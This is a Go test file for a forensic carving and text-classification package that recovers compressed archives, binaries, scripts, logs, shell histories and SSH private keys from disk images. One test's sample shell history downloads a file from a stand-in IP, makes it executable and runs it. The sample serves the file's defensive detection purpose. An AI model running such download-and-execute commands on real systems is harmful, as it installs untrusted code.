package content

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// inBlocks puts a file where it would lie on a disk: behind other data, with its last
// block filled up, and more data behind.
func inBlocks(data []byte) (disk []byte, at int64) {
	disk = bytes.Repeat([]byte{0xa5}, 4096)
	disk = append(disk, data...)
	disk = append(disk, make([]byte, (4096-len(data)%4096)%4096)...)
	return append(disk, bytes.Repeat([]byte{0x5a}, 8192)...), 4096
}

func carveBytes(t testing.TB, data []byte) (Carved, bool) {
	t.Helper()
	disk, at := inBlocks(data)
	kind := CarveKind(disk[at : at+CarveHead])
	if kind == "" {
		return Carved{}, false
	}
	return Carve(kind, bytes.NewReader(disk), at, int64(len(disk)), 4096, &Budget{Left: 1 << 30})
}

// The length of what the real tools write is found exactly.
func TestCarveLengths(t *testing.T) {
	dir := t.TempDir()
	var text bytes.Buffer
	for i := range 3000 {
		text.WriteString(strings.Repeat("line ", i%7) + "of a text that packs well\n")
	}
	plain := filepath.Join(dir, "plain")
	if err := os.WriteFile(plain, text.Bytes(), 0o644); err != nil {
		t.Fatal(err)
	}
	made := map[string][]byte{}
	for kind, command := range map[string][]string{
		"gzip": {"gzip", "-k", "-c", plain}, "bzip2": {"bzip2", "-k", "-c", plain}, "xz": {"xz", "-k", "-c", plain},
		"zstd": {"zstd", "-q", "-k", "-c", plain}, "lz4": {"lz4", "-q", "-k", "-c", plain}, "tar": {"tar", "-b2", "-cf", "-", "-C", dir, "plain"},
		"ar": {"sh", "-c", "cd " + dir + " && ar rc x.a plain && cat x.a"}, "7z": {"sh", "-c", "cd " + dir + " && 7z a -bd x.7z plain >/dev/null && cat x.7z"},
		"sqlite": {"sh", "-c", "cd " + dir + " && sqlite3 x.db 'create table t(a); insert into t values(1)' && cat x.db"},
	} {
		if _, err := exec.LookPath(map[string]string{"ar": "ar", "7z": "7z", "sqlite": "sqlite3"}[kind] + map[bool]string{true: command[0]}[command[0] != "sh"]); err != nil {
			t.Logf("%s: its tool is not installed", kind)
			continue
		}
		out, err := exec.Command(command[0], command[1:]...).Output()
		if err != nil {
			t.Fatalf("%v: %v", command, err)
		}
		made[kind] = out
	}
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, _ := z.Create("a.txt")
	io.Copy(w, strings.NewReader(text.String()))
	z.Close()
	made["zip"] = b.Bytes()
	if elf, err := os.ReadFile("/bin/true"); err == nil {
		made["elf"] = elf
	}
	made["script"] = []byte("#!/bin/sh\necho hello\necho world\n")
	made["php"] = []byte("<?php\necho 'hello world';\n")
	if len(made) < 6 {
		t.Error("hardly any tool is installed")
	}
	for kind, data := range made {
		c, ok := carveBytes(t, data)
		if !ok || c.Kind != kind || c.Length != int64(len(data)) || !c.Complete {
			t.Errorf("%s of %d bytes: %+v, %t", kind, len(data), c, ok)
		}
		// Cut, it is not complete.
		if len(data) > 8192 {
			disk, at := inBlocks(data)
			if c, ok := Carve(kind, bytes.NewReader(disk), at, at+4096, 4096, &Budget{Left: 1 << 30}); ok && c.Complete || c.Length > 4096 {
				t.Errorf("%s, cut to a block: %+v", kind, c)
			}
		}
	}
}

// A bomb ends when the budget does.
func TestCarveBudget(t *testing.T) {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	for range 64 {
		z.Write(make([]byte, 1<<20))
	}
	z.Close()
	budget := &Budget{Left: 4 << 20}
	c, ok := Carve("gzip", bytes.NewReader(b.Bytes()), 0, int64(b.Len()), 4096, budget)
	if !ok || c.Complete || budget.Left < -1<<20 {
		t.Errorf("%+v %t, budget %d", c, ok, budget.Left)
	}
}

func TestCarveRefuses(t *testing.T) {
	elf := make([]byte, 64)
	copy(elf, "\x7fELF\x02\x01\x01")
	for name, data := range map[string][]byte{
		"an ELF header of nothing":     elf,
		"a tar header without its sum": append(append(make([]byte, 0, 512), "a"+strings.Repeat("\x00", 256)+"ustar\x0000"...), make([]byte, 247)...),
		"text":                         []byte(strings.Repeat("just some text\n", 40)),
		"a page of zeros":              append([]byte{0x0d}, make([]byte, 4095)...),
		"the beginning of a gzip":      []byte("\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03 not packed at all, only text"),
	} {
		if c, ok := carveBytes(t, data); ok {
			t.Errorf("%s: %+v", name, c)
		}
	}
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	w.WriteHeader(&tar.Header{Name: "a", Size: 3, Mode: 0o644})
	w.Write([]byte("abc"))
	w.Close()
	if c, ok := carveBytes(t, b.Bytes()); !ok || c.Length != int64(b.Len()) || !c.Complete {
		t.Errorf("tar: %+v %t", c, ok)
	}
}

func TestKindOfLine(t *testing.T) {
	for line, want := range map[string]TextKind{
		"Mar  3 10:00:00 web sshd[1]: hello":                                        SyslogLine,
		"<34>1 2003-10-11T22:14:15.003Z host su - ID47 - failed":                    SyslogLine,
		"<34>Oct 11 22:14:15 host su: failed":                                       SyslogLine,
		"2024-03-03T10:00:00.123456+01:00 web kernel: hello":                        SyslogLine,
		"2024-03-03T10:00:00Z INFO starting up the server now":                      Plain,
		"Mar the 3rd of 2024 was a fine day: sunny":                                 Plain,
		"shop.example.org:443 192.0.2.1 - bob [03/Mar/2024:10:00:00 +0000] \"GET\"": AccessLine,
		"see [03/Mar/2024:10:00:00 +0000] for more":                                 Plain,
		"#1710000000":                   HistoryTime,
		"#17100000001":                  Plain,
		"1 2 3 4 5 six seven":           Plain,
		"0 4 1-7 jan-mar * /bin/true":   CronLine,
		"61 * * * * /bin/true":          Plain,
		"* bullet of a list, with text": Plain,
		"@daily true and so on":         CronLine,
		"@dailymail is a newspaper":     Plain,
		"[Sun Mar 03 10:00:00.123456 2024] [core:error] [pid 1] hello": WebError,
	} {
		if got := KindOfLine([]byte(line)); got != want {
			t.Errorf("%q is %q, want %q", line, got, want)
		}
	}
}

func TestLooksLikeHistory(t *testing.T) {
	for text, want := range map[string]bool{
		"ls\ncd /tmp\nwget http://192.0.2.1/x\nchmod +x x\n./x\nexit\n": true,
		"ls\ncd /tmp\nls\n": false,
		"#!/bin/sh\nls\ncd /tmp\ncat x\nif true\nthen\n ls\nfi\n":                                false,
		"find the book\nwho is there\nlast but not least\nThe end of it\nAnd so on\nThen more\n": false,
	} {
		if LooksLikeHistory([]byte(text)) != want {
			t.Errorf("%q: want %t", text, want)
		}
	}
}

func TestTextRun(t *testing.T) {
	b := []byte("\x00\x01short\x00\x02a longer run of text\nwith a line\x00end of it all, too")
	if from, to := TextRun(b, 0, 12); string(b[from:to]) != "a longer run of text\nwith a line" {
		t.Errorf("%q", b[from:to])
	}
	if from, to := TextRun(b, 42, 12); string(b[from:to]) != "end of it all, too" {
		t.Errorf("%q", b[from:to])
	}
	if from, to := TextRun(b[:8], 0, 12); from != 8 || to != 8 {
		t.Errorf("%d, %d", from, to)
	}
}

func TestPrivateKey(t *testing.T) {
	var raw bytes.Buffer
	raw.WriteString("openssh-key-v1\x00")
	str := func(s string) {
		binary.Write(&raw, binary.BigEndian, uint32(len(s)))
		raw.WriteString(s)
	}
	str("aes256-ctr")
	str("bcrypt")
	str("0123456789abcdef")
	binary.Write(&raw, binary.BigEndian, uint32(1))
	binary.Write(&raw, binary.BigEndian, uint32(51))
	str("ssh-ed25519")
	raw.WriteString(strings.Repeat("x", 200))
	text := "-----BEGIN OPENSSH PRIVATE KEY-----\n" + base64.StdEncoding.EncodeToString(raw.Bytes()) + "\n-----END OPENSSH PRIVATE KEY-----\n"
	k, ok := PrivateKey([]byte(text + "more"))
	if !ok || k.Algorithm != "ssh-ed25519" || k.Encrypted != "yes" || !k.Complete || k.Length != int64(len(text)) {
		t.Errorf("%+v %t", k, ok)
	}
	if k, ok := PrivateKey([]byte(text[:200])); !ok || k.Complete || k.Length != 200 {
		t.Errorf("cut: %+v %t", k, ok)
	}
	if _, ok := PrivateKey([]byte("-----BEGIN CERTIFICATE-----\nAAAAAAAAAAAAAAAAAAAAAAAA\n")); ok {
		t.Error("a certificate is taken for a key")
	}
}

func FuzzCarve(f *testing.F) {
	kinds := []string{"elf", "gzip", "bzip2", "zip", "7z", "xz", "zstd", "lz4", "tar", "ar", "sqlite", "sqlite-page", "journal", "script", "php"}
	for _, head := range []string{"\x7fELF\x02\x01\x01", "\x1f\x8b\x08\x00", "BZh91AY&SY", "PK\x03\x04", "7z\xbc\xaf\x27\x1c\x00", "\xfd7zXZ\x00\x00\x04",
		"\x28\xb5\x2f\xfd\x20", "\x04\x22\x4d\x18\x64", "!<arch>\n", "SQLite format 3\x00", "\x0d\x00\x00\x00\x02", "LPKSHHRH", "#!/bin/sh\n", "<?php\n"} {
		f.Add(append([]byte(head), make([]byte, 600)...))
	}
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, kind := range kinds {
			c, ok := Carve(kind, bytes.NewReader(data), 0, int64(len(data)), 4096, &Budget{Left: 1 << 22})
			if ok && (c.Length <= 0 || c.Length > int64(len(data))) {
				t.Errorf("%s: %+v of %d bytes", kind, c, len(data))
			}
		}
		CarveKind(data)
	})
}

func FuzzLines(f *testing.F) {
	for _, s := range []string{"<34>1 2003-10-11T22:14:15.003Z h p - - - x", "*/5 * * * * x", "#1710000000", "-----BEGIN OPENSSH PRIVATE KEY-----\nAAAAAAAAAAAAAAAAAAAAAAAA", ": 1710000000:0;id"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		if k := KindOfLine(b); k >= textKinds {
			t.Errorf("kind %d", k)
		}
		if k, ok := PrivateKey(b); ok && (k.Length <= 0 || k.Length > int64(len(b))) {
			t.Errorf("%+v of %d bytes", k, len(b))
		}
		if from, to := TextRun(b, 0, 12); from > to || to > len(b) {
			t.Errorf("%d, %d", from, to)
		}
		if n := JournalMessage(b, len(b)); n < 0 || n > len(b) {
			t.Errorf("%d", n)
		}
		LooksLikeHistory(b)
		IsUtmp(b)
	})
}
